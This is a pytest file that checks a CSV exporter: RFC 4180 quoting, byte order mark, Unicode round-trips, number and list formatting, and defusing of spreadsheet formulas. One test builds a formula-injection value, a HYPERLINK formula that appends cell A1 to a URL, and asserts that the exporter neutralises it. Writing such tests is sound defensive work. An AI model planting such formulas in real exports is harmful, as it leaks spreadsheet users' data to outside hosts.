"""CSV: what a spreadsheet, and a reader of RFC 4180, finds in the bytes."""

from __future__ import annotations

import csv
import io

import pytest

from pipeline.export.delimited import PIECE, delimited
from pipeline.export.sheet import Sheet


def written(*values: object) -> bytes:
    """Return the CSV of one column that holds `values`."""
    return b"".join(delimited(Sheet("any", ("cell",), [{"cell": value} for value in values])))


def cells(*values: object) -> list[str]:
    """Return the cells that a reader of CSV finds where `values` were written; a last column follows each."""
    rows = [{"cell": value, "end": "."} for value in values]
    text = b"".join(delimited(Sheet("any", ("cell", "end"), rows))).decode("utf-8-sig")
    header, *read = csv.reader(io.StringIO(text, newline=""))
    assert header == ["cell", "end"]
    return [cell for cell, _ in read]


def test_it_opens_with_a_byte_order_mark_and_the_names_of_the_columns() -> None:
    assert written("x") == b"\xef\xbb\xbfcell\r\nx\r\n"


def test_quotes_commas_and_breaks_are_escaped_as_rfc_4180_says() -> None:
    assert written('a "b", c\nd') == b'\xef\xbb\xbfcell\r\n"a ""b"", c\nd"\r\n'


@pytest.mark.parametrize(
    "text", ["Sécurité – “Sahel”", "Ελλάδα 🇪🇺", "a\r\nb", "a;b", " a ", "_x0041_", "'a'"]
)
def test_a_text_comes_back_as_it_was(text: str) -> None:
    assert cells(text) == [text]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_text_that_could_be_a_formula_has_an_apostrophe_before_it(first: str) -> None:
    hostile = f'{first}HYPERLINK("http://example.org?"&A1)'

    assert cells(hostile) == [f"'{hostile}"]


@pytest.mark.parametrize("inside", ["a=1", "2013-02-18", "office@example.org", "e-mail"])
def test_only_the_first_character_makes_a_formula(inside: str) -> None:
    assert cells(inside) == [inside]


def test_null_is_empty_and_flags_are_words() -> None:
    assert cells(None, True, False) == ["", "true", "false"]


def test_numbers_are_written_whole_and_a_negative_one_is_no_formula() -> None:
    assert cells(0, 12, -5, 0.9731, 1e-05) == ["0", "12", "-5", "0.9731", "1e-05"]


def test_a_list_is_joined() -> None:
    assert cells(["MLI", "NER"], ["MLI"], [], [None], ["a", None]) == ["MLI; NER", "MLI", "", "", "a; "]


def test_the_parts_of_a_confidence_are_named() -> None:
    assert cells([{"part": "base", "value": 8.5}, {"part": "rule: x", "value": 0.5}]) == [
        "base=8.5; rule: x=0.5"
    ]


def test_a_list_that_begins_as_a_formula_is_defused_too() -> None:
    assert cells(["=1+1", "x"]) == ["'=1+1; x"]


def test_a_table_without_rows_has_its_header() -> None:
    assert written() == b"\xef\xbb\xbfcell\r\n"


def test_a_long_table_comes_in_pieces() -> None:
    rows = ({"cell": "x" * 1000} for _ in range(1000))

    pieces = [len(piece) for piece in delimited(Sheet("any", ("cell",), rows))]

    assert len(pieces) > 10
    assert max(pieces) < 2 * PIECE
